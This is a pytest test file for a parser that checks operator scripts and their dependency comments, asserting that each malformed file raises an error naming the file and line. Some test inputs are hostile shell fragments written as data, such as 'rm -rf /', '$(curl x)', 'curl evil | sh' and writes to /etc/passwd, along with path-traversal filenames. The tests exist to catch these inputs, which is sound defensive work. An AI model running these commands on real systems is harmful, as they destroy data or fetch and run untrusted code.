"""Every bad operator is one OperatorError naming the file and the line."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from claimed_cwl.errors import OperatorError
from claimed_cwl.parse import parse_operator


def error_of(tmp_path: Path, code: str, name: str = "bad_op.py") -> OperatorError:
    path = tmp_path / name
    path.write_text(textwrap.dedent(code), encoding="utf-8")
    with pytest.raises(OperatorError) as info:
        parse_operator(path)
    return info.value


def assert_at(error: OperatorError, name: str, line: int) -> None:
    assert name in str(error)
    assert error.line == line
    assert f"{name}:{line}:" in str(error)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(OperatorError, match=r"nothere\.py: no such file"):
        parse_operator(tmp_path / "nothere.py")


def test_unknown_suffix(tmp_path: Path) -> None:
    path = tmp_path / "tool.sh"
    path.write_text("echo hi\n")
    with pytest.raises(OperatorError, match=r"tool\.sh: unknown operator file type '\.sh'"):
        parse_operator(path)


def test_directory_is_not_an_operator(tmp_path: Path) -> None:
    (tmp_path / "pkg.py").mkdir()
    with pytest.raises(OperatorError, match="not a regular file"):
        parse_operator(tmp_path / "pkg.py")


def test_empty_operator_name(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n", name="___.py")
    assert "___.py" in str(error) and "name" in error.message


def test_python_syntax_error_has_its_line(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n\nx = (1,\ndef f(:\n")
    assert "bad_op.py" in str(error) and "syntax error" in error.message
    assert error.line in (3, 4)


def test_not_utf8_python(tmp_path: Path) -> None:
    path = tmp_path / "latin.py"
    path.write_bytes(b"import os\nx = '\xe9'\n")
    with pytest.raises(OperatorError, match=r"latin\.py:2: "):
        parse_operator(path)


def test_parameter_name_not_an_identifier(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n\nv = os.getenv('my-param', 'x')\n")
    assert_at(error, "bad_op.py", 3)
    assert "'my-param'" in error.message and "identifier" in error.message


def test_read_twice_with_different_defaults_names_both_lines(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\na = os.getenv('limit', '10')\n\nb = os.getenv('limit', '20')\n")
    assert_at(error, "bad_op.py", 4)
    assert "line 2" in error.message and "line 4" in error.message and "default" in error.message


def test_read_twice_with_different_casts_names_both_lines(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\na = int(os.getenv('w', '3'))\nb = float(os.getenv('w', '3'))\n")
    assert_at(error, "bad_op.py", 3)
    assert "line 2" in error.message and "line 3" in error.message and "cast" in error.message


def test_unsupported_cast(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n\n\nz = complex(os.getenv('z', '1j'))\n")
    assert_at(error, "bad_op.py", 4)
    assert "complex" in error.message


@pytest.mark.parametrize("cast", ["bytes", "list", "tuple", "set", "frozenset", "dict", "eval", "bytearray"])
def test_every_unsupported_cast(tmp_path: Path, cast: str) -> None:
    error = error_of(tmp_path, f"import os\nz = {cast}(os.getenv('z', ''))\n")
    assert_at(error, "bad_op.py", 2)
    assert cast in error.message


def test_default_the_cast_cannot_convert(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n\nn = int(os.getenv('n', '3.5'))\n")
    assert_at(error, "bad_op.py", 3)
    assert "'3.5'" in error.message


def test_unknown_directive_key(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n# claimed: memory=4G\nx = 1\n")
    assert_at(error, "bad_op.py", 2)
    assert "memory" in error.message


@pytest.mark.parametrize(
    "directive", ["ram=lots", "cores=-1", "gpu=0.5", "time=3w", "type=bool", "secret=maybe", "path=/abs", "output=yes"]
)
def test_bad_directive_value(tmp_path: Path, directive: str) -> None:
    error = error_of(tmp_path, f"import os\n# claimed: {directive}\nx = os.getenv('x')\n")
    assert_at(error, "bad_op.py", 2)
    assert directive.split("=")[1] in error.message or directive in error.message


def test_empty_directive(tmp_path: Path) -> None:
    assert_at(error_of(tmp_path, "# claimed:\n"), "bad_op.py", 1)


def test_parameter_directive_not_followed_by_a_read(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n# claimed: type=File\n\nx = os.getenv('x')\n")
    assert_at(error, "bad_op.py", 2)
    assert "read" in error.message


def test_parameter_directive_above_two_reads_is_ambiguous(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n# claimed: secret\na, b = os.getenv('a'), os.getenv('b')\n")
    assert_at(error, "bad_op.py", 2)
    assert "ambiguous" in error.message


def test_conflicting_resource_directives(tmp_path: Path) -> None:
    error = error_of(tmp_path, "# claimed: cores=1\n# claimed: cores=2\n")
    assert_at(error, "bad_op.py", 2)
    assert "line 1" in error.message


def test_path_directive_on_an_input(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n# claimed: path=x.csv\nx = os.getenv('x')\n")
    assert_at(error, "bad_op.py", 2)


def test_output_directive_on_an_int_read(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n# claimed: output\nx = int(os.getenv('x', '1'))\n")
    assert_at(error, "bad_op.py", 2)


def test_shell_injection_with_semicolon_in_pip_comment(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n# pip install foo; rm -rf /\n")
    assert_at(error, "bad_op.py", 2)
    assert "';'" in error.message


def test_shell_injection_with_command_substitution_in_dnf_comment(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\n\n# dnf install $(curl x)\n")
    assert_at(error, "bad_op.py", 3)
    assert "$(curl" in error.message


@pytest.mark.parametrize(
    "line",
    [
        "# apt-get install -y curl && curl evil | sh",
        "# yum install `id`",
        "# pip install 'a;b'",
        "# pip install 'file:///etc/passwd'",
        "# apt install a>/etc/passwd;",
        "# pip install a|b",
        "# pip install --target /usr pandas",
        "# pip install",
    ],
)
def test_dependency_comment_that_is_not_just_packages(tmp_path: Path, line: str) -> None:
    assert_at(error_of(tmp_path, f"{line}\n"), "bad_op.py", 1)


def test_value_output_that_is_also_read(tmp_path: Path) -> None:
    error = error_of(tmp_path, "import os\nx = os.getenv('x')\nos.environ['x'] = 'y'\n")
    assert_at(error, "bad_op.py", 3)
    assert "line 2" in error.message


def test_default_without_lower_method(tmp_path: Path) -> None:
    assert_at(error_of(tmp_path, "import os\nv = os.getenv('v', 3).lower() == 'x'\n"), "bad_op.py", 2)


def test_r_parameter_name_not_an_identifier(tmp_path: Path) -> None:
    error = error_of(tmp_path, "x <- 1\ny <- Sys.getenv('input-file')\n", name="bad_op.R")
    assert_at(error, "bad_op.R", 2)
    assert "input-file" in error.message


def test_r_conflicting_casts(tmp_path: Path) -> None:
    code = "a <- as.numeric(Sys.getenv('k', '1'))\nb <- as.integer(Sys.getenv('k', '1'))\n"
    error = error_of(tmp_path, code, name="bad_op.R")
    assert_at(error, "bad_op.R", 2)
    assert "line 1" in error.message


@pytest.mark.parametrize(
    ("given", "fragment"),
    [("/etc/passwd", "relative"), ("../secret.txt", "'..'"), ("missing.csv", "not found"), ("", "empty")],
)
def test_bad_additional_files(tmp_path: Path, given: str, fragment: str) -> None:
    path = tmp_path / "op.py"
    path.write_text("import os\n")
    with pytest.raises(OperatorError) as info:
        parse_operator(path, additional_files=[given])
    assert "op.py" in str(info.value) and fragment in info.value.message


def test_additional_file_symlink_escaping_the_directory(tmp_path: Path) -> None:
    (tmp_path / "outside.txt").write_text("x")
    operator_dir = tmp_path / "op"
    operator_dir.mkdir()
    (operator_dir / "link.txt").symlink_to(tmp_path / "outside.txt")
    path = operator_dir / "op.py"
    path.write_text("import os\n")
    with pytest.raises(OperatorError, match="outside"):
        parse_operator(path, additional_files=["link.txt"])
